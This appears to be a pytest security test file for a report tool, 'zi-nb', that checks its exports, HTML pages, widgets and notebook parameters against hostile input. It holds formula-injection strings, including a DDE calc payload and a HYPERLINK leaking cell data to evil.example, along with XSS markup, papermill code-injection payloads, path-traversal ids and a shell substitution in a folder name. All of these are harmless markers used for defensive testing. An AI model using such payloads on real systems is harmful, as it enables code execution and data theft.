"""Security (issue 7, part 4): hostile text, names and parameters through every file zi-nb writes and every page it
serves. Each (attack, sink) pair is one check; the count is the Keandalan figure ``security_checks``.

* Formula injection: unit names, instansi, notes, evidence and reviewer notes starting with ``= + - @`` tab or CR
  (``=HYPERLINK(...)``, DDE ``=cmd|' /C calc'!A0``, ``@SUM(1)``, ``-2+3``) -> ``zi-nb export``, ``summary.xlsx`` of
  ``zi-nb bulk``, ``zi-nb score --format csv``, ``zi-nb template``: no cell is a formula, the text reads as written
  (quote prefix in XLSX, leading apostrophe in CSV), numbers (also negative ones) stay numbers.
* HTML injection: ``<script>``, ``<img onerror>``, quote breaks, ``javascript:``/``data:`` evidence links in unit
  names, ids, instansi, notes, evidence, reviewer names and notes -> the LHE (``zi-nb report``), the bulk
  ``index.html`` and the evaluator widgets: no active markup, the text shown as text, only http(s) links.
* Parameter injection: unit ids, paths and run ids that try to break out of papermill's injected cell: nothing runs
  (a marker file is never created), the value reaches the notebook as a literal, or it is refused with a message.
* Path traversal: unit ids ``../../evil``, ``/etc/passwd``, ``..\\..\\evil``, ``CON``, control and RTL characters,
  300 characters: every file written lands in the output folder, and ids whose names collide never overwrite.
* Web app: ``zi-nb serve`` listens on 127.0.0.1 by default; another address needs a token and every route refuses
  requests without it (the page itself with a wrong token: ``tests/test_evaluator_e2e.py``).
* Ledger: hostile reviewer names and notes are stored verbatim and shown escaped.
* Input limits: an oversized input is refused by the CLI with a clear message.

The commands run as the user runs them (the ``zi-nb`` console script, in a working folder inside the test's tmp
root, so that a relative escape would also land where the test looks).
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.request
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from tests.helpers import best_raw
from tests.robustness.figures import report
from zi_nb.common.text import WINDOWS_DEVICES, file_stem
from zi_nb.engine.rubric import load_rubric
from zi_nb.errors import ParameterError
from zi_nb.lke.xlsx import FORMULA_PREFIXES
from zi_nb.report.model import PARAMETERS, check_parameters

ZI_NB = str(Path(sys.executable).with_name("zi-nb"))
REPO = Path(__file__).resolve().parents[2]

# -- the attacks ---------------------------------------------------------------------------------------------------
UNIT_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"<script>alert(\'nama\')</script>")'
INSTANSI = '@SUM(1) "><img src=x onerror=alert(\'instansi\')>'
NOTES = {  # item -> unit note (the item is answered worst, so it is among the report's weakest items)
    "PPA1B": "-2+3 <img src=x onerror=alert('catatan')>",
    "PPA2B": "=cmd|' /C calc'!A0 </td></tr></table><script>alert('dde')</script>",
    "PPA2C": "+62 812 ' onmouseover='alert(\"petik\")",
    "PPA3A": "\t=2+5 <svg onload=alert('tab')>",
}
EVIDENCE = ("javascript:alert('bukti')\n"
            "https://ok.example/bukti?a=1&b=2\n"
            "data:text/html,<script>alert('data')</script>\n"
            "lihat https://ok.example/x\"onmouseover=\"alert('url') ya")
EVALUATOR = "=cmd|' /C calc'!A0 <img src=x onerror=alert('penilai')>\u202e"
LEDGER_NOTE = "@SUM(1)+cmd|' /C calc'!A0 <script>alert('ledger')</script> \" onfocus=\"alert('q')\x1b[31m"
HTML_ID = "<img src=x onerror=alert('id')>"
QUERY_UNIT = "<script>alert('query')</script>"  # ?unit= of the served page

H, H2 = "../../evil", "..\\..\\evil"  # the hostile unit, and one whose slug collides with it
PATH_IDS = [H, H2, "/etc/passwd", "CON", "a\x1bb\x07c", "abc\u202egpj.exe", "x" * 300, "x" * 299 + "y", "a b", "a.b",
            HTML_ID]


def payloads(marker: Path) -> list[str]:
    """Unit ids that try to leave the string literal papermill writes into the notebook."""
    touch = f"__import__('pathlib').Path('{marker}').touch()"
    return [f"x'); import os; os.system('touch {marker}') #",
            f'y"; {touch.replace(chr(39), chr(34))}; "',
            f"z\\'\n{touch}\n#",
            f"'''\"\"\"\n{touch}\n#",
            f"w\\\"; {touch} #"]


# -- the checks and their count -------------------------------------------------------------------------------------
PERFORMED: set[tuple[str, str]] = set()


class Checks:
    """Soft assertions: every check of a test runs (and is counted) even when an earlier one fails."""

    def __init__(self) -> None:
        self.failures: list[str] = []

    def __call__(self, attack: str, sink: str, ok: bool, detail: str = "") -> None:
        PERFORMED.add((attack, sink))
        if not ok:
            self.failures.append(f"{attack} -> {sink}: {detail}")

    def done(self) -> None:
        assert not self.failures, "\n".join(self.failures)


# -- helpers -------------------------------------------------------------------------------------------------------
def zi_nb(*args: str, cwd: Path, timeout: float = 600) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ZI_NB_")}
    return subprocess.run([ZI_NB, *args], check=False, cwd=cwd, capture_output=True, text=True, timeout=timeout,
                          env=env)


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


def written_outside(before: set[Path], root: Path, allowed: Path) -> list[str]:
    return sorted(str(p) for p in files_under(root) - before if allowed not in p.parents)


class Page(HTMLParser):
    """What a browser would make of an HTML page or fragment: elements, attributes, scripts, shown text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.words: list[str] = []
        self._raw: str | None = None
        self._buf: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("script", "style"):
            self._raw, self._buf = tag, []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            if tag == "script":
                self.scripts.append("".join(self._buf))
            self._raw = None

    def handle_data(self, data: str) -> None:
        (self._buf if self._raw else self.words).append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.words))

    def hrefs(self) -> list[str]:
        return [a.get("href", "") for t, a in self.tags if t == "a"]

    def problems(self) -> list[str]:
        """Active markup a hostile text could have produced: event handlers, script with an attack in it, frames,
        links or sources that are not http(s) (or an embedded image), a refresh."""
        out = []
        for tag, attrs in self.tags:
            if tag in ("iframe", "frame", "object", "embed", "applet", "base", "form") or (
                    tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh"):
                out.append(f"<{tag}>")
            for name, value in attrs.items():
                if name.startswith("on"):
                    out.append(f"<{tag} {name}={value!r}>")
                if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "background"):
                    v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                    scheme = re.match(r"^([a-z][a-z0-9+.-]*):", v)
                    if name == "srcdoc" or (scheme and scheme.group(1) not in ("http", "https") and not (
                            tag == "img" and name == "src" and v.startswith("data:image/"))):
                        out.append(f"<{tag} {name}={value[:60]!r}>")
        out += [f"<script> with {s[:60]!r}" for s in self.scripts if "alert(" in s]
        return out


def injected_parameters(notebook: Path) -> dict[str, Any]:
    """The cell papermill injected, parsed as Python: it must be assignments of literals to declared names only."""
    nb = json.loads(notebook.read_text(encoding="utf-8"))
    cells = [c for c in nb["cells"] if "injected-parameters" in c.get("metadata", {}).get("tags", [])]
    assert len(cells) == 1, f"{notebook}: {len(cells)} injected-parameters cells"
    values: dict[str, Any] = {}
    for stmt in ast.parse("".join(cells[0]["source"])).body:
        assert isinstance(stmt, ast.Assign) and len(stmt.targets) == 1 and isinstance(stmt.targets[0], ast.Name), \
            f"{notebook}: statement other than `name = literal` in the injected cell: {ast.unparse(stmt)}"
        values[stmt.targets[0].id] = ast.literal_eval(stmt.value)  # raises on anything but a literal
    return values


def cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def formula_check(check: Checks, sink: str, path: Path, texts: dict[str, str]) -> None:
    """No cell of the workbook is a formula; each hostile text is one text cell, quote-prefixed, reading as given."""
    found = cells(path)
    check("any formula", sink, not [c for c in found if c.data_type == "f"],
          f"formula cells: {[(c.coordinate, c.value) for c in found if c.data_type == 'f'][:5]}")
    formula_like = [c for c in found if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)]
    check("formula-like text keeps the quote prefix", sink, all(c.quotePrefix for c in formula_like),
          "text cells starting with = + - @ tab CR without quote prefix: "
          f"{[c.value for c in formula_like if not c.quotePrefix][:3]}")
    for attack, text in texts.items():
        core = text.strip()
        hits = [c for c in found if isinstance(c.value, str) and core in c.value]
        check(attack, sink, bool(hits) and all(c.data_type == "s" for c in hits),
              f"{core!r} not kept as text: {[(c.coordinate, c.data_type, c.value) for c in hits][:3]}")


def html_check(check: Checks, sink: str, html: str, texts: dict[str, str], links: tuple[str, ...] = ()) -> Page:
    """The page has no active markup; each hostile text is shown as text; the given http(s) URLs are links."""
    page = Page(html)
    problems = page.problems()
    check("no active markup", sink, not problems, f"{problems[:5]}")
    for attack, text in texts.items():
        check(attack, sink, re.sub(r"\s+", " ", text).strip() in page.text,
              f"{text!r} is not shown as text")
    for url in links:
        check("http(s) evidence becomes a link", sink, url in page.hrefs(), f"{url} is no link: {page.hrefs()[:8]}")
    return page


# -- the hostile world ---------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def world(tmp_path_factory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("security")
    marker = root / "PWNED"
    rubric = load_rubric("zi-2021")
    ids = PATH_IDS + payloads(marker)
    rows = []
    for uid in ids:
        for row in best_raw(rubric, uid):
            row = dict(row, answer=row.pop("raw"))
            if uid in (H, H2) and row["code"] in NOTES:
                row["answer"] = "Tidak" if row["code"] == "PPA1A" else ("D" if row["code"] == "PPA3A" else "C")
                row["note"] = NOTES[row["code"]]
                row["evidence"] = EVIDENCE if row["code"] == "PPA1B" else None
            rows.append(row)
    # hostile folder and file names: quotes, a newline, a shell substitution
    inputs = root / "in'\"\n$(touch PWNED)"
    inputs.mkdir()
    lke, units = inputs / "lke'\";x.csv", inputs / "unit's.csv"
    pd.DataFrame(rows).to_csv(lke, index=False)
    meta = [{"unit_id": u, "unit_name": UNIT_NAME if u in (H, H2) else None,
             "instansi": INSTANSI if u in (H, H2) else "$\\frac{1}{$ Kantor $5"} for u in ids]
    pd.DataFrame(meta).to_csv(units, index=False)
    cwd = root / "kerja" / "a" / "b"
    cwd.mkdir(parents=True)
    ledger = root / "ledger\"'\n.sqlite"
    for unit in (H, H2):
        done = zi_nb("adjust", "--input", str(lke), "--units-file", str(units), "--unit", unit, "--code", "PPA1B",
                     "--answer", "B", "--tier", "tpi", "--evaluator", EVALUATOR, "--note", LEDGER_NOTE,
                     "--ledger", str(ledger), cwd=cwd)
        assert done.returncode == 0, done.stderr
    run_id = f"r'\"\n{payloads(marker)[1]}"
    return {"root": root, "marker": marker, "lke": lke, "units": units, "inputs": inputs, "cwd": cwd,
            "ledger": ledger, "ids": ids, "run_id": run_id, "payloads": payloads(marker)}


@pytest.fixture(scope="module")
def bulk_run(world) -> dict[str, Any]:
    root = world["root"]
    out = root / "out'\"\nbulk"
    before = files_under(root)
    done = zi_nb("bulk", str(world["inputs"]), "-o", str(out), "--workers", "2", "--ledger", str(world["ledger"]),
                 "--run-id", world["run_id"], "--no-progress", cwd=world["cwd"])
    return {"out": out, "done": done, "outside": written_outside(before, root, out)}


@pytest.fixture(scope="module")
def report_run(world) -> dict[str, Any]:
    root = world["root"]
    out = root / "out-report"
    before = files_under(root)
    done = zi_nb("report", str(world["lke"]), "--units-file", str(world["units"]), "--unit", H, "--unit", H2,
                 "--ledger", str(world["ledger"]), "--run-id", world["run_id"], "-o", str(out), cwd=world["cwd"])
    return {"out": out, "done": done, "outside": written_outside(before, root, out)}


def summary(bulk_run) -> dict[str, Any]:
    return json.loads((bulk_run["out"] / "summary.json").read_text(encoding="utf-8"))


# -- formula injection ---------------------------------------------------------------------------------------------
def test_export_keeps_formula_like_text_as_text(world):
    check = Checks()
    out = world["root"] / "out-export"
    before = files_under(world["root"])
    done = zi_nb("export", "--input", str(world["lke"]), "--units-file", str(world["units"]), "--unit", H,
                 "--ledger", str(world["ledger"]), "-o", str(out / "lke-tpi.xlsx"), cwd=world["cwd"])
    check("hostile reviewer name in a header", "zi-nb export", done.returncode == 0 and "Traceback" not in done.stderr,
          done.stderr[-300:])
    check(H, "zi-nb export path", not written_outside(before, world["root"], out),
          f"written outside: {written_outside(before, world['root'], out)}")
    if done.returncode == 0:
        formula_check(check, "zi-nb export", out / "lke-tpi.xlsx", {
            "=HYPERLINK unit name": UNIT_NAME, "@SUM instansi": INSTANSI, "-2+3 note": NOTES["PPA1B"],
            "DDE note": NOTES["PPA2B"], "+ note": NOTES["PPA2C"], "tab = note": NOTES["PPA3A"],
            "@ reviewer note": LEDGER_NOTE.replace("\x1b", ""), "javascript: evidence": "javascript:alert('bukti')"})
        found = cells(out / "lke-tpi.xlsx")
        weights = [c for c in found if c.column == 3 and c.row > 8]
        check("numbers stay numbers", "zi-nb export", weights and all(c.data_type == "n" for c in weights),
              "Bobot cells are not numbers")
        links = [c.hyperlink.target for c in found if c.hyperlink is not None]
        check("only http(s) hyperlinks", "zi-nb export",
              links == ["https://ok.example/bukti?a=1&b=2"], f"hyperlinks: {links}")
    check.done()


def test_writers_neutralise_tab_cr_and_keep_negative_numbers(tmp_path, rubric):
    """Writer level, for what no reader lets through (leading tab / CR) and for negative numbers."""
    from openpyxl import load_workbook

    from zi_nb.bulk import summary as bulk_summary
    from zi_nb.engine.answers import RAW_COLUMNS, build_answers
    from zi_nb.lke.export import write_circulated

    check = Checks()
    raw = pd.DataFrame([{"unit_id": "u", "tier": "unit", "code": "PPA1B", "raw": "A", "note": "\t=1+1",
                         "evidence": "\r=2+2"}, {"unit_id": "u", "tier": "tpi", "code": "PPA1B", "raw": "B",
                                                 "note": "\r@SUM(3)", "reviewer": "-5 \x07Tim"}])
    answers, _ = build_answers(raw.reindex(columns=RAW_COLUMNS), rubric)
    answers.loc[answers["tier"] == "unit", "note"] = "\t=1+1"  # whatever the normaliser does, the writer must cope
    answers.loc[answers["tier"] == "unit", "evidence"] = "\r=2+2"
    answers.loc[answers["tier"] == "tpi", "note"] = "\r@SUM(3)"
    write_circulated(tmp_path / "lke.xlsx", rubric, {"unit_id": "u", "unit_name": "-2+3", "instansi": "\t@x",
                                                    "year": -1}, answers, reviewers={"tpi": "=1+1\x07"})
    formula_check(check, "write_circulated", tmp_path / "lke.xlsx",
                  {"tab": "\t=1+1", "CR": "\r=2+2", "CR @": "\r@SUM(3)", "-2+3 name": "-2+3", "tab @": "\t@x"})
    year = [c for c in cells(tmp_path / "lke.xlsx") if c.row == 6 and c.column == 2]
    check("negative number", "write_circulated", year and year[0].value == -1 and year[0].data_type == "n",
          f"{[(c.value, c.data_type) for c in year]}")

    doc = bulk_summary.sample_doc()
    doc["units"][0].update(unit_name="\t=1+1", instansi="\r@SUM(1)", total=-1.5, error="-2+3\x1b")
    doc["units"][1].update(unit_name="=cmd|' /C calc'!A0", instansi="+62", areas={"A": -0.5})
    path = bulk_summary.write_xlsx(doc, tmp_path / "s.xlsx")
    formula_check(check, "summary.xlsx writer", path, {"tab": "\t=1+1", "CR": "\r@SUM(1)", "DDE": "=cmd|' /C calc'!A0",
                                                       "+": "+62", "- with control char": "-2+3"})
    ws = load_workbook(path).active
    numbers = [c.value for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    check("negative number", "summary.xlsx writer", -1.5 in numbers and -0.5 in numbers, f"numbers: {numbers[:20]}")
    check.done()


def test_score_csv_neutralises_formulas(world):
    check = Checks()
    done = zi_nb("score", str(world["lke"]), str(world["units"]), "--format", "csv", cwd=world["cwd"])
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    fields = [v for r in rows for v in r.values() if v]

    def number(text: str) -> bool:
        try:
            float(text)
        except ValueError:
            return False
        return True

    active = [v for v in fields if v.startswith(FORMULA_PREFIXES) and not number(v)]
    check("any formula", "zi-nb score --format csv", not active, f"fields a spreadsheet runs: {active[:3]}")
    for attack, text in (("=HYPERLINK unit name", UNIT_NAME), ("@SUM instansi", INSTANSI)):
        check(attack, "zi-nb score --format csv", any(v in (text, "'" + text) for v in fields),
              f"{text!r} not kept (as is or after an apostrophe)")
    check.done()


def test_template_keeps_formula_like_unit_as_text(world):
    check = Checks()
    out = world["root"] / "out-template"
    before = files_under(world["root"])
    done = zi_nb("template", "--unit", UNIT_NAME, "--instansi", INSTANSI, "-o", str(out / "t.xlsx"),
                 cwd=world["cwd"])
    assert done.returncode == 0, done.stderr
    check(UNIT_NAME, "zi-nb template path", not written_outside(before, world["root"], out),
          f"{written_outside(before, world['root'], out)}")
    formula_check(check, "zi-nb template", out / "t.xlsx", {"=HYPERLINK unit name": UNIT_NAME,
                                                           "@SUM instansi": INSTANSI})
    check.done()


# -- bulk: summary.xlsx, index.html, names, parameters --------------------------------------------------------------
def test_bulk_writes_only_inside_its_folder_with_unique_names(world, bulk_run):
    check = Checks()
    done, out = bulk_run["done"], bulk_run["out"]
    assert "Traceback" not in done.stderr and done.returncode in (0, 1), done.stderr[-2000:]
    for uid in PATH_IDS:
        check(uid, "zi-nb bulk path", not bulk_run["outside"], f"written outside {out}: {bulk_run['outside']}")
    check("/etc/passwd", "zi-nb bulk absolute", not any(Path(f"/etc/passwd{s}").exists() for s in (".html", ".ipynb")),
          "/etc/passwd.* written")
    units = summary(bulk_run)["units"]
    reports = [u["report"] for u in units if u["status"] == "ok"]
    check("colliding slugs", "zi-nb bulk names", len(reports) == len(set(reports)), f"shared report files: {reports}")
    for u in units:
        if u["report"]:
            check("file names", "zi-nb bulk names", re.fullmatch(r"[a-z0-9-]+\.html", u["report"]) is not None
                  and (out / u["report"]).is_file(), f"{u['unit_id']!r} -> {u['report']!r}")
    devices = [u["report"] for u in units if u["report"] and Path(u["report"]).stem in WINDOWS_DEVICES]
    check("CON", "zi-nb bulk names", not devices, f"Windows device names: {devices}")
    failed = {u["unit_id"]: u["error"] for u in units if u["status"] != "ok"}
    check("colliding slugs", "zi-nb bulk message",
          all("sama dengan laporan unit" in (e or "") for e in failed.values()),
          f"units without a report and why: {failed}")
    check.done()


def test_bulk_parameters_reach_the_notebook_as_data(world, bulk_run):
    check = Checks()
    out = bulk_run["out"]
    marker = world["marker"]
    units = {u["unit_id"]: u for u in summary(bulk_run)["units"]}
    for i, payload in enumerate(world["payloads"]):
        check(f"unit_id payload {i}", "papermill (bulk)", not marker.exists(), f"{marker} was created")
        unit = next((u for uid, u in units.items() if uid and uid.split("\n")[0] == payload.split("\n")[0]), None)
        check(f"unit_id payload {i}", "notebook literal", unit is not None and unit["status"] == "ok"
              and injected_parameters(out / unit["notebook"])["unit_id"] == unit["unit_id"],
              f"{payload!r}: {unit and (unit['status'], unit['error'])}")
    notebooks = sorted(out.glob("*.ipynb"))
    assert notebooks
    params = injected_parameters(notebooks[0])
    check("names", "injected cell", set(params) <= set(PARAMETERS), f"{set(params) - set(PARAMETERS)}")
    for name in ("input_path", "units_path", "ledger_path", "run_id"):
        check(f"quotes+newline in {name}", "papermill (bulk)", not marker.exists() and (
            params.get(name) == world["run_id"] if name == "run_id" else "\n" in str(params.get(name))),
            f"{name} = {params.get(name)!r}")
    check.done()


def test_bulk_summary_xlsx_has_no_formula(bulk_run):
    check = Checks()
    formula_check(check, "summary.xlsx (bulk)", bulk_run["out"] / "summary.xlsx",
                  {"=HYPERLINK unit name": UNIT_NAME, "@SUM instansi": INSTANSI})
    totals = [c for c in cells(bulk_run["out"] / "summary.xlsx") if c.column == 5 and c.row > 1]
    check("numbers stay numbers", "summary.xlsx (bulk)", totals and all(c.data_type == "n" for c in totals),
          f"{[(c.value, c.data_type) for c in totals][:3]}")
    check.done()


SUMMARY_FILES = ("summary.xlsx", "summary.json")


def test_bulk_index_escapes_user_text(bulk_run):
    check = Checks()
    index = bulk_run["out"] / "index.html"
    check("mathtext in instansi", "index.html", index.is_file(), "index.html missing (the summary notebook failed?)")
    if index.is_file():
        page = html_check(check, "index.html", index.read_text(encoding="utf-8"),
                          {"<script> in unit name": "<script>alert('nama')</script>",
                           "quote + <img onerror> in instansi": INSTANSI, "<img onerror> unit id": HTML_ID,
                           "$ in instansi": "$\\frac{1}{$ Kantor $5", "run id": "r'\""})
        # every link is a unit's report (a safe file stem) or one of the run's own summary files
        check("report links", "index.html", all(re.fullmatch(r"[a-z0-9-]+\.html", h) or h in SUMMARY_FILES
                                                for h in page.hrefs()), f"hrefs: {page.hrefs()[:5]}")
    check.done()


# -- zi-nb report ------------------------------------------------------------------------------------------------------
def test_file_stem_of_hostile_ids(world):
    """The report file name of a unit id (:func:`zi_nb.common.text.file_stem`): a plain name, unique, never a device."""
    check = Checks()
    ids = [*world["ids"], "con", "nul", "LPT1", "kanim-sukawangi", "\x00", "", "..", ".", "-"]
    stems = {uid: file_stem(uid) for uid in ids}
    for i, (uid, stem) in enumerate(stems.items()):
        check(f"id {i}", "file_stem", re.fullmatch(r"[a-z0-9][a-z0-9-]{0,79}", stem) is not None
              and stem not in WINDOWS_DEVICES, f"{uid!r} -> {stem!r}")
    check("colliding slugs", "file_stem", len(set(stems.values())) == len(stems), f"{stems}")
    check("plain id kept", "file_stem", stems["kanim-sukawangi"] == "kanim-sukawangi", stems["kanim-sukawangi"])
    check.done()


def test_report_writes_only_inside_its_folder_and_never_overwrites(world, report_run):
    check = Checks()
    done, out = report_run["done"], report_run["out"]
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    for uid in (H, H2):
        check(uid, "zi-nb report path", not report_run["outside"], f"written outside: {report_run['outside']}")
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    html = {u["unit_id"]: [o["path"] for o in u.get("outputs", []) if o["path"].endswith(".html")]
            for u in manifest["units"]}
    made = [p for paths in html.values() for p in paths]
    check("colliding slugs", "zi-nb report names",
          len(made) == len(set(made)) and (len(made) == 2 or (done.returncode != 0 and "sama" in done.stderr)),
          f"{html}; {done.stdout[-300:]} {done.stderr[-300:]}")
    check.done()


def test_report_html_escapes_user_text(world, report_run):
    check = Checks()
    out = report_run["out"]
    pages = sorted(out.glob("*.html"))
    assert pages, report_run["done"].stderr[-2000:]
    for page in pages:
        html_check(check, "LHE html", page.read_text(encoding="utf-8"), {
            "<script> in unit name": "<script>alert('nama')</script>", "quote + <img onerror> in instansi": INSTANSI,
            "<img onerror> in note": NOTES["PPA1B"], "</table><script> in note": NOTES["PPA2B"],
            "quote break in note": NOTES["PPA2C"], "javascript: evidence": "javascript:alert('bukti')",
            "data: evidence": "data:text/html,<script>alert('data')</script>",
            "quote break in URL": "\"onmouseover=\"alert('url') ya", "<img onerror> reviewer": EVALUATOR[:-1],
            "<script> ledger note": LEDGER_NOTE[:-5], "run id": "r'\""},
            links=("https://ok.example/bukti?a=1&b=2", "https://ok.example/x"))
    check("run id payload", "papermill (report)", not world["marker"].exists(), "marker created")
    for nb in sorted(out.glob("*.ipynb")):
        params = injected_parameters(nb)
        check("run id payload", "notebook literal", params["run_id"] == world["run_id"], f"{params['run_id']!r}")
    check.done()


def test_replay_of_a_tampered_manifest_runs_no_code(world, report_run, tmp_path):
    """An auditor re-runs a folder received from someone else: a parameter *name* in its manifest is written into
    the notebook as code by papermill, so it must be refused before any notebook runs."""
    check = Checks()
    src = tmp_path / "diterima"
    shutil.copytree(report_run["out"], src)
    manifest = json.loads((src / "manifest.json").read_text(encoding="utf-8"))
    marker = tmp_path / "PWNED"
    touch = f"__import__('pathlib').Path('{marker}').touch()"
    for unit in manifest["units"]:
        unit.setdefault("params", {})[f"x = 1\n{touch}\ny"] = 1
        unit["params"][f"_\n{touch}\n_"] = 2
    (src / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    done = zi_nb("audit", "replay", str(src), "-o", str(tmp_path / "ulang"), cwd=world["cwd"])
    check("parameter name injection", "zi-nb audit replay", not marker.exists(),
          "a parameter name from manifest.json ran as code")
    check("parameter name injection", "zi-nb audit replay message",
          done.returncode != 0 and "Traceback" not in done.stderr and "parameter" in done.stderr.lower(),
          f"status {done.returncode}: {done.stderr[-400:]}")
    check.done()


def test_check_parameters_refuses_code_shaped_input(world):
    check = Checks()
    for payload in world["payloads"]:
        check("payload as unit_id", "check_parameters", check_parameters({"unit_id": payload})["unit_id"] == payload)
    refused = {
        "name with code": {"x = 1\nimport os": 1},
        "underscore name with code": {"_\nimport os\n_": 1},
        "unknown name": {"evil": "x"},
        "tier with code": {"tier": "final\nimport os"},
        "lang with quote": {"lang": "id'; import os; '"},
        "NUL in path": {"input_path": "a\x00b"},
        "code in ledger_seq": {"ledger_seq": "0; import os"},
        "policy of wrong type": {"policies": {"unanswered": ["zero"]}},
    }
    for attack, params in refused.items():
        try:
            check_parameters(params)
        except ParameterError as exc:
            check(attack, "check_parameters", "Parameter laporan tidak sah" in str(exc), str(exc))
        else:
            check(attack, "check_parameters", False, f"{params!r} accepted")
    check.done()


# -- the evaluator widgets ------------------------------------------------------------------------------------------
def widget_html(widget: Any) -> list[str]:
    import ipywidgets as W

    out, stack = [], [widget]
    while stack:
        w = stack.pop()
        if isinstance(w, W.HTML | W.HTMLMath):
            out.append(w.value)
        stack += list(getattr(w, "children", ()))
    return out


def widget_classes(widget: Any) -> list[str]:
    out, stack = [], [widget]
    while stack:
        w = stack.pop()
        out += list(getattr(w, "_dom_classes", ()))
        stack += list(getattr(w, "children", ()))
    return out


def test_widgets_escape_user_text(world, tmp_path):
    from zi_nb.app.session import load_data
    from zi_nb.app.workbench import Root

    check = Checks()
    ledger = tmp_path / "ledger.sqlite"
    shutil.copy(world["ledger"], ledger)
    params = {"input_path": str(world["lke"]), "units_path": str(world["units"]), "unit_id": QUERY_UNIT,
              "tier": "tpi", "evaluator": EVALUATOR, "ledger_path": str(ledger)}
    root = Root(params)  # ?unit=<script>... is not a unit: the list, with a message
    html_check(check, "widgets (unit list)", "".join(widget_html(root.widget)),
               {"?unit=<script>": QUERY_UNIT, "<script> in unit name": "<script>alert('nama')</script>",
                "quote + <img onerror> in instansi": INSTANSI, "<img onerror> unit id": HTML_ID})
    data = load_data(params["input_path"], params["units_path"])
    hostile = next(u for u in data.unit_ids if u == H)
    root.open(hostile)
    bench = root.bench
    bench.goto("PPA1B")
    bench.control.children[0].value = "C"
    bench.note.value = LEDGER_NOTE
    bench._on_save()
    html_check(check, "widgets (workbench)", "".join(widget_html(root.widget)), {
        "<script> in unit name": "<script>alert('nama')</script>", "quote + <img onerror> in instansi": INSTANSI,
        "<img onerror> in note": NOTES["PPA1B"], "javascript: evidence": "javascript:alert('bukti')",
        "data: evidence": "data:text/html,<script>alert('data')</script>",
        "quote break in URL": "\"onmouseover=\"alert('url') ya", "<img onerror> reviewer": EVALUATOR[:-1],
        "<script> ledger note": LEDGER_NOTE[:-5]},
        links=("https://ok.example/bukti?a=1&b=2", "https://ok.example/x"))
    check("unit id in CSS classes", "widgets", all(re.fullmatch(r"[A-Za-z0-9_-]+", c)
                                                   for c in widget_classes(root.widget)),
          f"{[c for c in widget_classes(root.widget) if not re.fullmatch(r'[A-Za-z0-9_-]+', c)][:3]}")
    stored = sqlite3.connect(ledger).execute("SELECT evaluator, note FROM records ORDER BY seq").fetchall()
    check("hostile reviewer and note", "ledger (CLI adjust)", stored[0] == (EVALUATOR, LEDGER_NOTE), f"{stored[0]!r}")
    check("hostile reviewer and note", "ledger (widgets)", stored[-1] == (EVALUATOR, LEDGER_NOTE), f"{stored[-1]!r}")
    check.done()


def test_history_prints_hostile_text_without_terminal_control(world, capsys):
    """``zi-nb history`` on a terminal (colour on): the reviewer's text as written, but an escape sequence or a
    right-to-left override in it is shown as ``\\x1b`` / ``\\u202e``, never sent to the terminal."""
    from zi_nb.cli.app import cli

    check = Checks()
    with pytest.raises(SystemExit):
        cli.main(args=["history", "--ledger", str(world["ledger"])], prog_name="zi-nb", standalone_mode=False,
                        color=True)
    out = capsys.readouterr().out
    check("<script> ledger note", "zi-nb history", "<script>alert('ledger')</script>" in out, out[-300:])
    check("ANSI escape in ledger note", "zi-nb history", "\x1b" not in out and "\\x1b" in out, repr(out[-300:]))
    check("RTL override in reviewer name", "zi-nb history", "\u202e" not in out and "\\u202e" in out,
          repr(out[-300:]))
    check.done()


# -- the web app ----------------------------------------------------------------------------------------------------
def listening(port: int) -> list[str]:
    """Addresses listening on ``port`` (from /proc/net/tcp*), as hex strings."""
    out = []
    for name in ("tcp", "tcp6"):
        path = Path("/proc/net") / name
        if path.is_file():
            for line in path.read_text().splitlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                address, hexport = local.rsplit(":", 1)
                if state == "0A" and int(hexport, 16) == port:
                    out.append(address)
    return out


def own_address() -> str | None:
    """This machine's address on its default route (None without one); a UDP connect sends no packet."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.connect(("192.0.2.1", 9))
            address = sock.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") or address == "0.0.0.0" else address


LOOPBACK = {"0100007F", "00000000000000000000000001000000"}  # 127.0.0.1, ::1


def test_serve_binds_loopback_by_default_and_refuses_other_address_without_token(tmp_path):
    from zi_nb.app import serve
    from zi_nb.cli.review import serve as serve_command

    check = Checks()
    host = next(p.default for p in serve_command.params if p.name == "host")
    check("default address", "zi-nb serve", host == "127.0.0.1", host)
    for bad in ("", "pendek", "a" * 15):
        with pytest.raises(ParameterError) as refused:
            serve.start(host="0.0.0.0", ledger_path=str(tmp_path / "l.sqlite"), port=serve.free_port(), token=bad)
        check(f"token {bad!r} on 0.0.0.0", "zi-nb serve", "token" in str(refused.value).lower(), str(refused.value))
